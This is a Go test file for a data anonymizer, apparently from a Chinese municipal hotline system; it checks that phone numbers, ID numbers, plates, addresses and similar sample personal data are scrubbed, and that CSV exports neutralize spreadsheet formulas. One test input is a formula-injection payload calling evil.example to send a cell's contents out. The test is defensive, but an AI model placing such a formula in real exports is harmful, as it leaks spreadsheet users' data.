package evaluation

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/fengcheng/datahub/internal/calendar"
	"github.com/google/uuid"
)

// scrubLeaks is the corpus of hard cases: each input holds personal data
// typed the way people type it, and leak is what must not survive (compared
// after folding full-width forms and Chinese numerals, so a leak cannot
// hide in another script).
var scrubLeaks = []struct{ name, in, leak string }{
	// Phone numbers however typed.
	{"full-width mobile", "电话１３８１２３４５６７８请回电", "12345678"},
	{"spaced mobile", "电话138 1234 5678请回电", "5678"},
	{"double-spaced mobile", "电话138  1234  5678请回电", "5678"},
	{"dotted mobile", "电话138.1234.5678请回电", "5678"},
	{"dashed mobile", "电话138-1234-5678请回电", "5678"},
	{"em-dashed mobile", "电话138—1234—5678请回电", "5678"},
	{"slashed mobile", "电话138/1234/5678", "5678"},
	{"full-width spaced mobile", "电话１３８　１２３４　５６７８请回电", "５６７８"},
	{"full-width dotted mobile", "电话１３８．１２３４．５６７８", "５６７８"},
	{"country code", "电话+86 138 1234 5678", "5678"},
	{"country code full-width", "电话＋８６－１３８－１２３４－５６７８", "5678"},
	{"one digit per space", "手机 1 3 8 1 2 3 4 5 6 7 8", "5 6 7 8"},
	{"masked mobile", "联系人电话138****5678", "5678"},
	{"Chinese numerals", "电话一三八一二三四五六七八", "12345678"},
	{"Chinese numerals with yao", "号码幺三八幺二三四五六七八", "5678"},
	{"landline dotted", "座机0523.8688.1234", "1234"},
	{"landline bracketed", "座机(0523)86881234", "86881234"},
	{"landline full-width brackets", "座机（０５２３）８６８８１２３４", "86881234"},
	{"extension residue", "分机号 86881", "86881"},
	// Identity numbers.
	{"spaced ID", "身份证3212 0319 9001 0112 3X", "3X"},
	{"dotted ID", "身份证321203.19900101.123X", "123X"},
	{"full-width ID", "身份证３２１２０３１９９００１０１１２３Ｘ", "Ｘ"},
	// Plates.
	{"plate with space", "车牌苏M 12345违停", "12345"},
	{"plate spaced and dotted", "车牌苏 M·A1234违停", "A1234"},
	{"plate space in serial", "车牌苏M·A 1234违停", "1234"},
	{"plate full-width", "车牌苏Ｍ１２３４５违停", "１２３４５"},
	{"plate lower case", "车牌苏m12345违停", "12345"},
	{"plate letters", "车牌苏A·B2C3D违停", "B2C3D"},
	{"new-energy plate", "新能源车苏M D12345停在消防通道", "D12345"},
	{"plate without province", "车牌 M·12345 违停", "12345"},
	{"plate two spaces", "苏  M  12345", "12345"},
	// House numbers.
	{"house number", "住在幸福路12号", "12号"},
	{"compound gate", "幸福里88号院门口", "88号"},
	{"building and room", "3幢502室漏水", "502"},
	{"building unit room", "12号楼3单元502室", "502"},
	{"dashed address", "5-2-301业主投诉", "301"},
	{"dashed room", "2-301室楼上漏水", "301"},
	{"hash building", "3#楼2单元1102", "1102"},
	{"tower unit room", "3栋2单元1102", "1102"},
	{"room only", "1102房的住户", "1102"},
	{"floor and unit", "5楼2单元东户", "5楼"},
	{"Chinese numeral room", "三幢五零二室", "502"},
	{"full-width house", "３幢５０２室", "５０２"},
	// Other contacts.
	{"email", "邮箱zhang.san@example.com", "zhang.san"},
	{"wechat", "加微信 zhangsan_88 联系", "zhangsan_88"},
	{"qq", "QQ：87654321", "87654321"},
	{"bank card", "转账到6222 0212 3456 7890 123", "7890"},
	{"bank card tail", "卡号6222021234567890123", "3"},
	{"name with numerals", "张三四五来电", "张三四五"},
	{"postcode residue", "邮编225300", "225300"},
}

func foldAll(s string) string { return foldDigits(foldWidth(s)) }

// TestScrubCorpus: every hard case loses its personal data.
func TestScrubCorpus(t *testing.T) {
	for _, tc := range scrubLeaks {
		t.Run(tc.name, func(t *testing.T) {
			got := Scrub(tc.in, "张三四五")
			if got != Withheld && !strings.Contains(got, Removed) {
				t.Errorf("Scrub(%q) = %q: nothing removed", tc.in, got)
			}
			if strings.Contains(foldAll(got), foldAll(tc.leak)) {
				t.Errorf("Scrub(%q) = %q: still holds %q", tc.in, got, tc.leak)
			}
		})
	}
}

// TestScrubKeeps: what is not personal stays as written, so a scrubbed
// description is still worth reading.
func TestScrubKeeps(t *testing.T) {
	for _, keep := range []string{
		"2025-04-15上午发现", "2025.04.15", "2025/4/5", "共3.5万元", "面积120平方米", "罚款20000元", "拨打12345热线反映",
		"道路塌陷约3处", "下水道堵塞两天", "一处井盖缺失", "8:30-10:00施工", "已于2025-04完成整改", "树木倒伏压住2辆车",
	} {
		if got := Scrub(keep); got != keep {
			t.Errorf("Scrub(%q) = %q: removed what is not personal", keep, got)
		}
	}
	if got := Scrub("王小明来电", "王小明"); strings.Contains(got, "王小明") {
		t.Errorf("name kept: %q", got)
	}
	if got := Scrub("王小明来电", "王小明"); got != Removed+"来电" {
		t.Errorf("name: %q", got)
	}
}

// TestCSVNeutralizesFormulas: a text cell a spreadsheet would run as a
// formula is turned into text; numbers stay numbers.
func TestCSVNeutralizesFormulas(t *testing.T) {
	a := NewAnonymizer([]byte("k"), Profile{KeepText: true, Coordinates: true}, calendar.Default())
	d := time.Date(2025, 4, 15, 2, 0, 0, 0, time.UTC)
	c := &SourceCase{ID: uuid.New(), Kind: "EVENT", MajorCode: "05", MinorCode: "0501", Source: "HOTLINE_12345", Status: "CLOSED",
		Description: `=HYPERLINK("http://evil.example/?"&A1,"点我")`, Lat: -32.49151, Lng: 119.92049,
		Street: "hailing.x", Community: "hailing.x.y", ReportedAt: d}
	_, cv := a.Render(c, nil, nil)
	rec, err := csv.NewReader(strings.NewReader(string(cv) + "\n")).Read()
	if err != nil {
		t.Fatalf("csv %q: %v", cv, err)
	}
	for i, col := range a.Columns() {
		switch col.Name {
		case "description":
			if !strings.HasPrefix(rec[i], "'") {
				t.Errorf("%s = %q: a formula left live", col.Name, rec[i])
			}
		case "lat":
			if rec[i] != "-32.492" {
				t.Errorf("lat = %q: a number must stay a number", rec[i])
			}
		}
	}
}
